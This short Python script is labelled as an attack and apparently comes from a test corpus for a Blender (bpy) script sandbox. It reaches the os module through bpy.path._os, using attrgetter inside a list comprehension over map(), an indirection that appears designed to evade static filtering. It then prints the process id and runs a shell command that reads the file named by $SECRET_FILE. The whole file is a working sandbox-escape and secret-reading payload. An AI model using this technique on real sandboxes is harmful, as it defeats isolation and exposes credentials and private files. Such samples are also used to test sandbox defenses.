# attack: the os module inside bpy.path, by attrgetter in a list comprehension over map()
# family: reach
import bpy
from operator import attrgetter

system, = [get(bpy.path) for get in map(attrgetter, ["_os"])]
print("REACHED", system.getpid())
print(system.popen("cat $SECRET_FILE").read())
